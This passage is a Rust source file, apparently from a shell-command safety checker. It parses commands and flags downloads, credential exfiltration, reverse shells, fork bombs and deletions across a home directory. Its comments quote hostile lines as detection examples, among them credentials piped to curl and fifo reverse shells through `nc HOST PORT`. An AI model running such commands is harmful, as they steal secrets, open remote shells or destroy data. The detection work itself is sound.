//! From command text to the list of simple commands the shell would run.
//!
//! The walker parses the text with brush-parser and visits every part of the tree that can run
//! a command: pipelines, lists, subshells, groups, loops, conditionals, `case`, function bodies,
//! `[[ ]]`, arithmetic, assignments, redirect targets, here-documents that expand, and the
//! words themselves, whose `$(…)`, backquotes and `${x:-$(…)}` brush-parser keeps as text and we
//! parse again. Scripts given as text to a launcher (`bash -c`, `eval`, `ssh host …`) are parsed
//! too, up to [`MAX_NESTING`] levels. Each simple command becomes one [`Found`], in source order
//! (an outer command comes before the commands nested in its words).
//!
//! Pure: parses and records, runs nothing.

use brush_parser::ast;
use brush_parser::word::{WordPiece, WordPieceWithSource};

use std::collections::HashMap;

use crate::builtin;
use crate::commands;
use crate::env::KnownEnv;
use crate::forms;
use crate::harm;
use crate::parse;
use crate::runners;
use crate::salvage;
use crate::words::{self, Arg, Printed};
use crate::written;

/// How many scripts-within-scripts (substitutions, `bash -c`, `eval`) are parsed before the
/// walker gives up and reports the rest as unknown.
pub(crate) const MAX_NESTING: usize = 16;

/// Brace expansion beyond this many words is not expanded: the word is reported as unknown.
const MAX_BRACE_WORDS: usize = 1024;

/// How many scripts-within-scripts one check parses at most; beyond, the rest are unknown.
/// Bounds the work on inputs built to multiply (a substitution inside a substitution inside
/// …, each in a word with several brace alternatives).
const MAX_NESTED_SCRIPTS: usize = 10_000;

/// Longest command text quoted in a segment that could not be parsed.
const MAX_QUOTED_CHARS: usize = 200;

/// Where a command's standard input comes from, as far as the policy cares.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub(crate) enum Stdin {
    /// Whatever the enclosing command has.
    #[default]
    Inherited,
    /// A pipe from an earlier command of the same pipeline.
    Pipe,
    /// A pipe from a pipeline in which an earlier command downloads (`curl … | …`).
    DownloadPipe,
    /// A pipe that carries only paths under the working directory: a `find` of relative
    /// places or `git ls-files`, then only filters that keep whole lines (`grep`, `sort`).
    LocalPaths,
    /// A pipe that carries paths from all over the home directory or the whole system: a
    /// `find` from there that no name test narrows (`find ~ -type f | xargs rm`).
    HomePaths,
}

/// One redirection, normalized.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct Redirect {
    pub fd: Option<i32>,
    /// `<`, `>`, `>>`, `<>`, `>|`, `<&`, `>&`, `&>`, `&>>`, `<<`, `<<-` or `<<<`; `|` for
    /// the text a literal `echo`/`printf` before it in a pipeline prints.
    pub op: &'static str,
    /// The file, fd or here-document delimiter.
    pub target: Arg,
    /// The text a here-document or here-string feeds to the command.
    pub body: Option<String>,
}

impl Redirect {
    /// `2>&1`, `>/dev/null`, `<<EOF`, `<<<text`.
    pub(crate) fn text(&self) -> String {
        let fd = self.fd.map(|fd| fd.to_string()).unwrap_or_default();
        format!("{fd}{}{}", self.op, self.target.text)
    }

    /// True if the redirect opens its target for writing.
    pub(crate) fn writes(&self) -> bool {
        match self.op {
            ">" | ">>" | ">|" | "<>" | "&>" | "&>>" => true,
            // `>&word` writes stdout and stderr to a file unless the word is an fd or `-`.
            ">&" => !self
                .target
                .text
                .bytes()
                .all(|byte| byte.is_ascii_digit() || byte == b'-'),
            _ => false,
        }
    }
}

/// One simple command the shell would run.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Found {
    /// The words as written, assignments and redirections removed. Empty for a command made
    /// only of redirections (`> file`).
    pub argv: Vec<Arg>,
    /// Where each command run through wrappers starts in `argv` (`sudo rm` is `[0, 1]`).
    /// Empty when the text could not be parsed: no rule can match it then.
    pub forms: Vec<usize>,
    pub redirects: Vec<Redirect>,
    /// The constructs this command was found in, outermost first (`$(…)`, `bash -c`, `f()`).
    pub via: Vec<String>,
    /// Why the policy cannot know what this command runs, if it cannot.
    pub unknown: Option<String>,
    /// The command calls the function it is defined in, in the background or twice in one
    /// pipeline.
    pub fork_bomb: bool,
    pub stdin: Stdin,
    /// The command only hands a script to a local shell (`bash -c`, `eval`); that script's
    /// commands are found separately.
    pub launcher: bool,
    /// The text could not be parsed (this stands for all of it).
    pub unparsed: bool,
    /// The directory the command runs in, when an earlier `cd` or `pushd` of the same text
    /// moved to a known place: `/…` (normalized) or `~` / `~/…`.
    pub cwd: Option<String>,
    /// The command runs in the background, or twice in one pipeline: if it calls a function
    /// that calls back, each call starts several more at once.
    pub fans_out: bool,
    /// It is unknown only because which files under the working directory it deletes or
    /// changes the mode or owner of is known at run time (`find . -name x | xargs rm -rf`):
    /// a sandbox that confines writes to the project bounds what it can do.
    pub files_only: bool,
    /// The command line reads a credential or the environment and this command sends data
    /// to another machine.
    pub exfiltrates: bool,
    /// A shell of the command line reads from a pipe while this command talks to the
    /// network (`mkfifo f; sh < f | nc HOST PORT > f`).
    pub reverse_shell: bool,
    /// It runs code that came from the network by a route the pipe rules do not see: a file
    /// the line downloaded, a shell fed by a coprocess or a fifo while a download runs.
    pub runs_download: bool,
}

impl Found {
    /// The words of each command it runs, outermost first.
    pub(crate) fn each_form(&self) -> impl Iterator<Item = &[Arg]> {
        self.forms
            .iter()
            .filter_map(|start| self.argv.get(*start..))
    }

    /// True if this command (or one it wraps) is a downloader: a program that fetches data,
    /// interpreter code that does, a DNS query for text records, or `ssh HOST cat FILE`.
    pub(crate) fn downloads(&self) -> bool {
        self.each_form().any(|form| {
            commands::program(form).is_some_and(|name| {
                commands::is_downloader(&name)
                    || (commands::is_language_interpreter(&name) && harm::fetches_in_code(form))
                    || (matches!(name.as_ref(), "dig" | "host" | "drill" | "nslookup")
                        && form.iter().any(|arg| {
                            arg.text.eq_ignore_ascii_case("txt")
                                || arg.text.eq_ignore_ascii_case("-t txt")
                                || arg.text.eq_ignore_ascii_case("-type=txt")
                        }))
                    || (name == "ssh"
                        && commands::launch(form).is_some_and(|launch| {
                            matches!(
                                launch.script.split_whitespace().next(),
                                Some("cat" | "curl" | "wget" | "base64")
                            )
                        }))
            })
        })
    }
}

/// Finds every simple command in `command`. A command name made of variables from `env` (the
/// session's environment) is read with their values where nothing in the command can have
/// changed them (see `env.rs`).
pub(crate) fn walk(command: &str, env: &HashMap<String, String>) -> Vec<Found> {
    let (mut found, bindings) = walk_with(command, env);
    bind_values(&mut found, &bindings);
    mark_fork_bombs(&mut found);
    mark_network(&mut found);
    found
}

/// Marks the commands that send data when another command of the same line reads a secret
/// (`cat ~/.aws/credentials | curl -d @- …`), and the network commands of a line whose shell
/// reads a pipe (`sh -i < f 2>&1 | nc HOST PORT > f`).
fn mark_network(found: &mut [Found]) {
    let secret = found.iter().any(harm::reads_secret);
    let tokens: Vec<&[&str]> = found.iter().filter_map(harm::token_service).collect();
    let piped_shell = found.iter().any(|one| {
        one.stdin == Stdin::Pipe
            && one
                .unknown
                .as_deref()
                .is_some_and(|reason| reason.contains("runs a script read from a pipe"))
    });
    let fetches = found.iter().any(|one| {
        one.downloads()
            || one.each_form().any(|form| {
                commands::program(form).is_some_and(|name| {
                    matches!(name.as_ref(), "nc" | "ncat" | "netcat" | "socat" | "telnet")
                })
            })
            || one.redirects.iter().any(|redirect| {
                harm::dev_net_host(&redirect.target.text)
                    .is_some_and(|host| !harm::is_loopback(host))
            })
    });
    let raw = found.iter().any(harm::raw_network)
        || found
            .iter()
            .any(|one| one.argv.first().is_some_and(|first| first.text == "ztcp"));
    // Remotes the line adds (`git remote add backup URL`): the whole repository pushed to
    // one (`git push backup --all`) leaves for a place nobody chose before.
    let added: Vec<String> = found
        .iter()
        .filter(|one| one.argv.first().is_some_and(|first| first.text == "git"))
        .filter_map(|one| {
            let words: Vec<&str> = one.argv.iter().map(|arg| arg.text.as_str()).collect();
            let at = words
                .windows(2)
                .position(|pair| pair == ["remote", "add"])?;
            (words.first() == Some(&"git"))
                .then(|| words.get(at + 2).map(|name| (*name).to_owned()))?
        })
        .collect();
    for one in found.iter_mut() {
        let words: Vec<&str> = match one.argv.first() {
            Some(first) if first.text == "git" => {
                one.argv.iter().map(|arg| arg.text.as_str()).collect()
            }
            _ => Vec::new(),
        };
        let pushes_everything = words.first() == Some(&"git")
            && words.contains(&"push")
            && words
                .iter()
                .any(|word| matches!(*word, "--all" | "--mirror"))
            && words.iter().any(|word| {
                added.iter().any(|name| name == word) || word.contains("://") || word.contains('@')
            });
        let sends = one.each_form().any(|form| harm::sends(one, form));
        if pushes_everything {
            one.exfiltrates = true;
            continue;
        }
        // A credential helper is handed the credentials on its input.
        let helper = one.via.iter().any(|via| via.contains("credential"));
        // A token sent to the service it is for is its everyday use (`gh auth token` to
        // api.github.com); to any other host it leaves.
        let token_leaves = tokens.iter().any(|domains| {
            !one.each_form()
                .any(|form| harm::sends_only_to(form, domains))
        });
        one.exfiltrates = (secret || helper || token_leaves) && sends;
        // A shell whose input is a descriptor opened elsewhere (`zsh 0>&$REPLY`, `sh <&3`)
        // on a line that opens a raw connection.
        let shell = one
            .each_form()
            .any(|form| commands::is_shell(&name_of(form)));
        let input_from_descriptor = one.redirects.iter().any(|redirect| {
            (redirect.fd.is_none() && redirect.op == "<&")
                || (redirect.fd == Some(0) && matches!(redirect.op, "<&" | ">&"))
        });
        let shell_on_descriptor = shell && input_from_descriptor;
        if raw && shell_on_descriptor {
            one.reverse_shell = true;
            continue;
        }
        one.reverse_shell = piped_shell && sends && harm::raw_network(one);
        let reads_unseen = one.unknown.as_deref().is_some_and(|reason| {
            reason.contains("read from a pipe")
                || reason.contains("made from its input")
                || reason.contains("only known when the shell runs it")
        });
        // A command name made at run time on a line that downloads (`x=$(curl …); $x`).
        let name_unseen = one
            .unknown
            .as_deref()
            .is_some_and(|reason| reason.contains("only known when the shell runs it"));
        if fetches
            && reads_unseen
            && (one.stdin != Stdin::Inherited
                || one.via.iter().any(|via| via == "eval")
                || name_unseen)
        {
            one.runs_download = true;
        }
    }
}

/// The commands of `command`, and the values its text gives variables.
type Walked = (Vec<Found>, Vec<(String, Vec<Arg>)>);

fn walk_with(command: &str, env: &HashMap<String, String>) -> Walked {
    let plain = || {
        let mut walker = Walker::default();
        let found = walker.walk(command);
        (found, walker.bindings)
    };
    if env.is_empty() {
        return plain();
    }
    let known = KnownEnv::new(env, command);
    let mut walker = Walker {
        env: Some(&known),
        ..Walker::default()
    };
    let found = walker.walk(command);
    // A variable the text never names can still be assigned: by a sourced file or `eval`,
    // or by a builtin given a name made at run time. Before or (in a loop) after any command.
    if walker.resolved_names && found.iter().any(assigns_unnamed_variables) {
        return plain();
    }
    (found, walker.bindings)
}

/// Reads the arguments that name a variable the text gave values (`D=~; rm -rf "$D"/src`,
/// `for d in dist ~/src; do rm -rf "$d"; done`) and a function's positional parameters
/// where the text calls it with literal words (`f() { rm -rf "$1"; }; f ~/src`) as each of
/// those values, so the rules see where they point. Only arguments: a command name made of
/// variables stays unknown. Each value may be the one bash uses, so an argument becomes one
/// argument per value.
fn bind_values(found: &mut [Found], bindings: &[(String, Vec<Arg>)]) {
    if bindings.is_empty()
        && !found
            .iter()
            .any(|one| one.via.iter().any(|via| via.ends_with("()")))
    {
        return;
    }
    let mut by_name: HashMap<&str, Vec<&Arg>> = HashMap::new();
    for (name, values) in bindings {
        let known = by_name.entry(name.as_str()).or_default();
        // The same value bound again (a function's `local d="$1"` in every copy) is one.
        for value in values {
            if !known.iter().any(|seen| seen.text == value.text) {
                known.push(value);
            }
        }
    }
    let labels: std::collections::HashSet<&str> = found
        .iter()
        .flat_map(|one| one.via.iter().map(String::as_str))
        .filter(|via| via.ends_with("()"))
        .collect();
    let mut calls: HashMap<String, Vec<Vec<Arg>>> = HashMap::new();
    if !labels.is_empty() {
        for one in found.iter() {
            if let Some(first) = one.argv.first().filter(|first| first.is_plain())
                && let Some(label) = labels
                    .iter()
                    .find(|label| label.strip_suffix("()") == Some(first.text.as_str()))
            {
                calls
                    .entry((*label).to_owned())
                    .or_default()
                    .push(one.argv[1..].to_vec());
            }
        }
    }
    for one in found.iter_mut() {
        // `for f in ~/.ssh/*; do : > "$f"; done`: a written file named by a bound variable
        // is each of its values.
        let bound_target = |redirect: &Redirect| {
            redirect.writes()
                && !redirect.target.literal
                && redirect.target.text.strip_prefix('$').is_some_and(|rest| {
                    by_name.contains_key(rest.trim_start_matches('{').trim_end_matches('}'))
                })
        };
        if one.redirects.iter().any(bound_target) {
            let mut redirects = Vec::with_capacity(one.redirects.len());
            for redirect in &one.redirects {
                let name = redirect
                    .target
                    .text
                    .strip_prefix('$')
                    .map(|rest| rest.trim_start_matches('{').trim_end_matches('}'));
                match name.and_then(|name| by_name.get(name)) {
                    Some(values) if redirect.writes() => {
                        redirects.extend(values.iter().map(|value| Redirect {
                            target: (*value).clone(),
                            ..redirect.clone()
                        }));
                    }
                    _ => redirects.push(redirect.clone()),
                }
            }
            one.redirects = redirects;
        }
        // Only commands with an argument naming a bound variable, or a positional parameter
        // of a function the text calls, change.
        let in_call = one.via.iter().any(|via| calls.contains_key(via));
        let bound = one.argv.iter().enumerate().any(|(index, arg)| {
            !arg.literal
                && !one.forms.contains(&index)
                && arg.text.contains('$')
                && variables_named(&arg.text).any(|name| {
                    by_name.contains_key(name) || (in_call && name.parse::<usize>().is_ok())
                })
        });
        if !bound {
            continue;
        }
        let positional: Vec<&Vec<Arg>> = one
            .via
            .iter()
            .filter_map(|via| calls.get(via))
            .flatten()
            .collect();
        let mut changed = false;
        let mut argv = Vec::with_capacity(one.argv.len());
        for (index, arg) in one.argv.iter().enumerate() {
            if arg.literal || one.forms.contains(&index) || !arg.text.contains('$') {
                argv.push(arg.clone());
                continue;
            }
            let mut values = vec![arg.clone()];
            for name in variables_named(&arg.text) {
                if let Some(given) = by_name.get(name) {
                    let given: Vec<Arg> = given.iter().map(|arg| (*arg).clone()).collect();
                    values = substitute(
                        values,
                        &[format!("${{{name}}}"), format!("${name}")],
                        &given,
                    );
                } else if let Ok(number) = name.parse::<usize>()
                    && (1..=9).contains(&number)
                {
                    let given: Vec<Arg> = positional
                        .iter()
                        .filter_map(|args| args.get(number - 1).cloned())
                        .collect();
                    values = substitute(
                        values,
                        &[format!("${{{name}}}"), format!("${name}")],
                        &given,
                    );
                }
            }
            changed |= values.len() != 1 || values[0].text != arg.text;
            argv.extend(values);
        }
        if changed {
            one.argv = argv;
            one.forms = forms::forms(&one.argv);
        }
    }
}

/// The names of the variables `$NAME` and `${NAME}` expanded in `text`.
fn variables_named(text: &str) -> impl Iterator<Item = &str> {
    text.match_indices('$').filter_map(|(at, _)| {
        let rest = &text[at + 1..];
        let rest = rest.strip_prefix('{').unwrap_or(rest);
        let end = rest
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(rest.len());
        (end > 0).then(|| &rest[..end])
    })
}

/// Each of `args` with `names` (spellings of one variable) read as each of `values`.
fn substitute(args: Vec<Arg>, names: &[String], values: &[Arg]) -> Vec<Arg> {
    if values.is_empty() || values.len() > 32 {
        return args;
    }
    let mut out = Vec::new();
    for arg in args {
        let Some(name) = names.iter().find(|name| {
            arg.text.match_indices(name.as_str()).any(|(at, _)| {
                // `$D` in `$Dx` is another variable (`${D}x` is not).
                name.ends_with('}')
                    || !arg.text[at + name.len()..]
                        .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
            })
        }) else {
            out.push(arg);
            continue;
        };
        for value in values {
            let text = arg.text.replace(name.as_str(), &value.text);
            let literal = value.literal && !text.contains('$') && !text.contains('~');
            out.push(Arg {
                text,
                literal,
                glob: arg.glob || value.glob,
                download: arg.download || value.download,
                ..arg.clone()
            });
        }
    }
    out
}

/// True if the command may assign a variable whose name is not written in it: `source`,
/// `.`, `eval`, a name reference (`declare -n`), or an assigning builtin (`declare`,
/// `export`, `read`, `printf -v`, …) given a name that is not literal (`read "$n"`,
/// `export "${p}ATH=…"`).
fn assigns_unnamed_variables(found: &Found) -> bool {
    found.each_form().any(|form| {
        let Some(name) = commands::program(form) else {
            return false;
        };
        let arguments = || form.iter().skip(1);
        match name.as_ref() {
            "source" | "." | "eval" => true,
            "declare" | "typeset" | "local" | "export" | "readonly" | "read" | "printf"
            | "mapfile" | "readarray" | "getopts" | "unset" | "let" => arguments().any(|arg| {
                let text = arg.text.as_str();
                let name_part = text.split_once('=').map_or(text, |(name, _)| name);
                let reference =
                    text.starts_with('-') && !text.starts_with("--") && text.contains('n');
                (reference && name != "read" && name != "printf" && name != "unset")
                    || (!arg.literal && name_part.contains(['$', '`']))
            }),
            _ => false,
        }
    })
}

#[derive(Default)]
struct Walker<'a> {
    out: Vec<Found>,
    /// The session's environment, as the command leaves it.
    env: Option<&'a KnownEnv<'a>>,
    /// Whether some command name was read from the environment.
    resolved_names: bool,
    /// The directory the next command runs in, when a `cd` made it known (`Found::cwd`).
    cwd: Option<String>,
    /// Names called twice or more by the pipelines that enclose the current point.
    fanned: Vec<String>,
    /// How many scripts run by another shell (`bash -c`, `ssh`) enclose the current point:
    /// the session's environment is not known there.
    launched: usize,
    via: Vec<String>,
    /// How many parsed-again scripts enclose the current point.
    nesting: usize,
    /// How many scripts were parsed again so far.
    nested_scripts: usize,
    /// Functions whose bodies enclose the current point.
    functions: Vec<String>,
    /// How many background lists (`… &`) enclose the current point, within the innermost
    /// function body.
    background: usize,
    /// How many pipelines with two or more calls of an enclosing function (`f | f`) enclose
    /// the current point, within the innermost function body.
    self_pipelines: usize,
    stdin: Stdin,
    /// `$0`, `$1`, … when a launcher set them (`sh -c SCRIPT ARG0 ARG1`).
    positional: Option<Vec<Arg>>,
    /// The input of the next script launched (`bash -c`, `eval`): the launcher's.
    launch_stdin: Option<Stdin>,
    /// Redirections the next script parsed applies to all its commands (those of a `( ( … ) )`
    /// read again as the subshells bash runs).
    inherited: Vec<Redirect>,
    /// Whether the parts of an unparseable text are being walked (see [`Walker::salvage`]).
    salvaging: bool,
    /// The text of the script being walked, by character (brush-parser's locations count
    /// characters).
    text: Vec<char>,
    /// Files the line wrote so far, and what they hold (`written.rs`).
    written: Vec<(String, written::Content)>,
    /// Where the commands of each `>(…)` of the current command start and end in `out`.
    output_substitutions: Vec<(usize, usize)>,
    /// Values the text gives variables: `D=~`, `for d in a ~/src` (see [`bind_values`]).
    bindings: Vec<(String, Vec<Arg>)>,
    /// What the command before this one in a pipeline prints, when a literal `echo` or
    /// `printf` shows it: read by the next simple command as its input.
    piped_text: Option<String>,
    /// Variables `read` or `mapfile` filled from a file or a pipe: arithmetic on them may
    /// run what the file holds.
    read_names: Vec<String>,
    /// How many pipelines fed by a file watcher (`inotifywait -m … | while …`) enclose the
    /// current point: what runs there runs again on every change.
    watched: usize,
    /// Values the line gives variables, arrays and substitutions (`expanded.rs`).
    values: crate::expanded::Values,
    /// What the last pipeline walked prints, when the line shows it.
    last_output: Option<String>,
    /// Programs the line downloaded into a `PATH` folder, by name (`gitx`), with their path.
    downloaded_programs: Vec<(String, String)>,
    /// The command before this one in a pipeline prints without end (`yes`, `seq inf`).
    endless_input: bool,
}

impl Walker<'_> {
    fn walk(&mut self, command: &str) -> Vec<Found> {
        self.script(command);
        std::mem::take(&mut self.out)
    }

    /// Parses `text` and walks it; an unparseable text becomes one unknown command.
    fn script(&mut self, text: &str) {
        let openers = parse::count_openers(text);
        let saved_text = std::mem::replace(&mut self.text, text.chars().collect());
        // The tree is walked, and dropped, on a stack sized for its depth.
        parse::on_big_enough_stack(openers, || match parse::program(text) {
            Ok(program) => {
                let inherited = std::mem::take(&mut self.inherited);
                for list in &program.complete_commands {
                    self.compound_list(list, &inherited);
                }
            }
            Err(failure) => {
                let start = self.out.len();
                self.unknown(text, format!("the command could not be parsed: {failure}"));
                self.out[start].unparsed = true;
                self.salvage(text);
            }
        });
        self.text = saved_text;
    }

    /// Walks the parts of a text that does not parse as a whole which parse on their own
    /// (its top-level commands, split at newlines, `;`, `&`, `|`), so that a command denied
    /// in one of them stays denied whatever else is wrong with the text. Only once: parts
    /// that do not parse either are covered by the unknown the whole text already is.
    fn salvage(&mut self, text: &str) {
        if self.salvaging {
            return;
        }
        let pieces = salvage::pieces(text);
        if pieces.len() == 1 && pieces[0] == text.trim() {
            return;
        }
        self.salvaging = true;
        for piece in pieces {
            if parse::program(&piece).is_ok() {
                self.script(&piece);
            }
        }
        self.salvaging = false;
    }

    /// Parses and walks a script found inside another one.
    fn nested_script(&mut self, text: &str, label: &str) {
        if self.nesting >= MAX_NESTING {
            self.unknown(
                text,
                format!("commands nest more than {MAX_NESTING} levels deep"),
            );
            return;
        }
        if self.nested_scripts >= MAX_NESTED_SCRIPTS {
            let reason = format!("more than {MAX_NESTED_SCRIPTS} nested scripts to check");
            self.unknown(text, reason);
            return;
        }
        self.nested_scripts += 1;
        self.nesting += 1;
        self.inside(label, |walker| walker.script(text));
        self.nesting -= 1;
    }

    /// Parses and walks a script a launcher runs in a new shell, with its positional
    /// parameters.
    fn launched_script(&mut self, text: &str, label: &str, positional: Option<Vec<Arg>>) {
        let saved = std::mem::replace(&mut self.positional, positional);
        // The launched shell reads the launcher's input (`curl … | bash -c bash`).
        self.launch_stdin = Some(self.stdin);
        self.launched += 1;
        self.nested_script(text, label);
        self.launch_stdin = None;
        self.launched -= 1;
        self.positional = saved;
    }

    /// Runs `walk` with `label` on the path, with the input of a fresh command.
    fn inside(&mut self, label: &str, walk: impl FnOnce(&mut Walker)) {
        self.via.push(label.to_owned());
        let stdin = self.launch_stdin.take().unwrap_or_default();
        let saved_stdin = std::mem::replace(&mut self.stdin, stdin);
        walk(self);
        self.stdin = saved_stdin;
        self.via.pop();
    }

    fn unknown(&mut self, text: &str, reason: String) {
        let quoted: String = if text.chars().count() > MAX_QUOTED_CHARS {
            text.chars().take(MAX_QUOTED_CHARS).chain(['…']).collect()
        } else {
            text.to_owned()
        };
        self.out.push(Found {
            argv: vec![Arg::literal(quoted)],
            via: self.via.clone(),
            unknown: Some(reason),
            stdin: self.stdin,
            ..Found::default()
        });
    }

    fn compound_list(&mut self, list: &ast::CompoundList, redirects: &[Redirect]) {
        for ast::CompoundListItem(and_or, separator) in &list.0 {
            let background = matches!(separator, ast::SeparatorOperator::Async);
            self.background += usize::from(background);
            self.pipeline(&and_or.first, redirects);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(pipeline) | ast::AndOr::Or(pipeline) => {
                        self.pipeline(pipeline, redirects);
                    }
                }
            }
            self.background -= usize::from(background);
        }
    }

    fn pipeline(&mut self, pipeline: &ast::Pipeline, redirects: &[Redirect]) {
        if let [command] = pipeline.seq.as_slice() {
            let start = self.out.len();
            self.command(command, redirects);
            self.last_output = match &self.out[start..] {
                [found] => output_of(found),
                _ => None,
            };
            return;
        }
        let self_calls = pipeline
            .seq
            .iter()
            .filter(|command| self.calls_enclosing_function(command))
            .count();
        let fans_out = usize::from(self_calls >= 2);
        self.self_pipelines += fans_out;
        let names: Vec<String> = pipeline.seq.iter().filter_map(called_name).collect();
        let fanned_before = self.fanned.len();
        for (index, name) in names.iter().enumerate() {
            if names[index + 1..].contains(name) && !self.fanned.contains(name) {
                self.fanned.push(name.clone());
            }
        }
        let saved_stdin = self.stdin;
        let mut download_before = false;
        let mut local_paths = true;
        let mut home_paths = false;
        let mut piped = None;
        let mut watched = false;
        let mut endless = false;
        for (index, command) in pipeline.seq.iter().enumerate() {
            self.watched += usize::from(index == 1 && watched);
            self.stdin = match (index, download_before, local_paths) {
                (0, _, _) => saved_stdin,
                (_, true, _) => Stdin::DownloadPipe,
                (_, false, true) => Stdin::LocalPaths,
                (_, false, false) if home_paths => Stdin::HomePaths,
                (_, false, false) => Stdin::Pipe,
            };
            let start = self.out.len();
            self.endless_input = index > 0 && endless;
            // What a literal `echo`/`printf` before it prints: the next command's input.
            self.piped_text = match command {
                ast::Command::Simple(_) => piped.take(),
                _ => None,
            };
            self.command(command, redirects);
            self.piped_text = None;
            self.endless_input = false;
            let this = &self.out[start..];
            endless = matches!(this, [found] if prints_without_end(found));
            if index == 0 {
                watched = this
                    .iter()
                    .any(|found| found.each_form().any(watches_files));
            }
            piped = match this {
                [found] => output_of(found),
                _ => None,
            };
            download_before |= this.iter().any(Found::downloads);
            local_paths = match this {
                [found] if index == 0 => commands::lists_local_paths(found.each_form().last()),
                [found] => local_paths && commands::keeps_whole_lines(found.each_form().last()),
                _ => false,
            };
            home_paths = match this {
                [found] if index == 0 => harm::lists_home(found),
                [found] => home_paths && commands::keeps_whole_lines(found.each_form().last()),
                _ => false,
            };
        }
        self.stdin = saved_stdin;
        self.last_output = piped;
        self.self_pipelines -= fans_out;
        self.watched -= usize::from(watched && pipeline.seq.len() > 1);
        self.fanned.truncate(fanned_before);
    }

    /// True if `command` is a plain call of a function whose body encloses this point.
    fn calls_enclosing_function(&self, command: &ast::Command) -> bool {
        called_name(command).is_some_and(|name| self.functions.contains(&name))
    }

    fn command(&mut self, command: &ast::Command, redirects: &[Redirect]) {
        match command {
            ast::Command::Simple(simple) => self.simple(simple, redirects),
            ast::Command::Compound(compound, own) => {
                let redirects = self.with_redirects(redirects, own.as_ref());
                self.compound(compound, &redirects);
            }
            ast::Command::Function(definition) => self.function(definition),
            ast::Command::ExtendedTest(test, own) => {
                self.with_redirects(redirects, own.as_ref());
                self.extended_test(&test.expr);
            }
        }
    }

    /// The redirects in force inside a compound command: the enclosing ones, then its own.
    fn with_redirects(
        &mut self,
        outer: &[Redirect],
        own: Option<&ast::RedirectList>,
    ) -> Vec<Redirect> {
        let mut redirects = outer.to_vec();
        for redirect in own.iter().flat_map(|list| &list.0) {
            self.redirect(redirect, &mut redirects);
        }
        redirects
    }

    fn compound(&mut self, compound: &ast::CompoundCommand, redirects: &[Redirect]) {
        match compound {
            ast::CompoundCommand::Arithmetic(arithmetic) => self.arithmetic(arithmetic, redirects),
            ast::CompoundCommand::ArithmeticForClause(clause) => {
                for expr in [&clause.initializer, &clause.condition, &clause.updater]
                    .into_iter()
                    .flatten()
                {
                    self.scan_text(&expr.value);
                }
                self.compound_list(&clause.body.list, redirects);
            }
            ast::CompoundCommand::BraceGroup(group) => self.compound_list(&group.list, redirects),
            ast::CompoundCommand::Subshell(subshell) => {
                // A `cd` inside a subshell does not move the commands after it.
                let cwd = self.cwd.clone();
                self.compound_list(&subshell.list, redirects);
                self.cwd = cwd;
            }
            ast::CompoundCommand::ForClause(clause) => {
                let mut values = Vec::new();
                for value in clause.values.iter().flatten() {
                    values.extend(self.expand(&value.value));
                }
                self.bindings.push((clause.variable_name.clone(), values));
                self.compound_list(&clause.body.list, redirects);
            }
            ast::CompoundCommand::CaseClause(clause) => {
                self.expand(&clause.value.value);
                for item in &clause.cases {
                    for pattern in &item.patterns {
                        self.expand(&pattern.value);
                    }
                    if let Some(list) = &item.cmd {
                        self.compound_list(list, redirects);
                    }
                }
            }
            ast::CompoundCommand::IfClause(clause) => {
                self.compound_list(&clause.condition, redirects);
                self.compound_list(&clause.then, redirects);
                for other in clause.elses.iter().flatten() {
                    if let Some(condition) = &other.condition {
                        self.compound_list(condition, redirects);
                    }
                    self.compound_list(&other.body, redirects);
                }
            }
            ast::CompoundCommand::WhileClause(clause) => {
                self.compound_list(&clause.0, redirects);
                let start = self.out.len();
                self.compound_list(&clause.1.list, redirects);
                if endless(&clause.0, ":") {
                    mark_background_flood(&mut self.out[start..], &clause.1.list);
                }
            }
            ast::CompoundCommand::UntilClause(clause) => {
                self.compound_list(&clause.0, redirects);
                let start = self.out.len();
                self.compound_list(&clause.1.list, redirects);
                if endless(&clause.0, "false") {
                    mark_background_flood(&mut self.out[start..], &clause.1.list);
                }
            }
            // A coprocess reads what the shell writes to it later (`>&${COPROC[1]}`).
            ast::CompoundCommand::Coprocess(coprocess) => {
                let saved = std::mem::replace(&mut self.stdin, Stdin::Pipe);
                self.command(&coprocess.body, redirects);
                self.stdin = saved;
            }
        }
    }

    /// `(( … ))`, which brush-parser reads as arithmetic whenever the tokens are `(` `(` …
    /// `)` `)`. Bash reads arithmetic only when the text starts with `((` and the inner
    /// expression's closing `)` is followed at once by `)`; otherwise (`( ( cmd ) )`,
    /// `((cmd) )`) it is a subshell in a subshell, walked as such.
    fn arithmetic(&mut self, arithmetic: &ast::ArithmeticCommand, redirects: &[Redirect]) {
        let (start, end) = (arithmetic.loc.start.index, arithmetic.loc.end.index);
        let source: Option<String> = self
            .text
            .get(start..end)
            .map(|chars| chars.iter().collect());
        match source {
            Some(source) if source.starts_with("((") && source.ends_with("))") => {
                self.arithmetic_text(&arithmetic.expr.value);
            }
            Some(source) if source.len() >= 2 => {
                // Drop the outer `(` and `)`: the rest is the inner subshell.
                let inner: String = source
                    .chars()
                    .skip(1)
                    .take(source.chars().count() - 2)
                    .collect();
                self.inherited = redirects.to_vec();
                self.nested_script(&inner, "( )");
                self.inherited.clear();
            }
            _ => self.unknown(
                &arithmetic.expr.value,
                "an arithmetic command whose text could not be found".to_owned(),
            ),
        }
    }

    fn function(&mut self, definition: &ast::FunctionDefinition) {
        let name = definition.fname.value.clone();
        let ast::FunctionBody(body, own) = &definition.body;
        let saved_background = std::mem::take(&mut self.background);
        let saved_self_pipelines = std::mem::take(&mut self.self_pipelines);
        self.functions.push(name.clone());
        self.inside(&format!("{name}()"), |walker| {
            let redirects = walker.with_redirects(&[], own.as_ref());
            walker.compound(body, &redirects);
        });
        self.functions.pop();
        self.background = saved_background;
        self.self_pipelines = saved_self_pipelines;
    }

    fn extended_test(&mut self, expr: &ast::ExtendedTestExpr) {
        match expr {
            ast::ExtendedTestExpr::And(left, right) | ast::ExtendedTestExpr::Or(left, right) => {
                self.extended_test(left);
                self.extended_test(right);
            }
            ast::ExtendedTestExpr::Not(inner) | ast::ExtendedTestExpr::Parenthesized(inner) => {
                self.extended_test(inner);
            }
            ast::ExtendedTestExpr::UnaryTest(predicate, word) => {
                let args = self.expand(&word.value);
                if matches!(
                    predicate,
                    ast::UnaryPredicate::ShellVariableIsSetAndAssigned
